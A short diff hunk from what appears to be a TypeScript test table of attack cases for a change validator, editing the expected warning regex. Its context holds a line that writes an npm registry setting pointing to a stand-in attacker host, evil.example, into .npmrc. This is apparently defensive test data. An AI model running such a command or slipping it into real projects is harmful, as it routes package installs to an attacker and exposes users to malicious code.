@@ -127,7 +127,7 @@ export const CHANGES: Record<string, Attack> = {
     tries: 'to have packages come from elsewhere',
     script: 'echo registry=http://evil.example >.npmrc',
     ends: 'LOCAL_VALIDATING',
-    says: /(?:may hold keys or passwords by their names|this changes where packages, hooks or submodules come from): \.npmrc/i,
+    says: /(?:these files may hold keys or passwords|this changes where packages, hooks or submodules come from): \.npmrc/i,
   },
   huge: {
     tries: 'to hide a line in a huge diff',
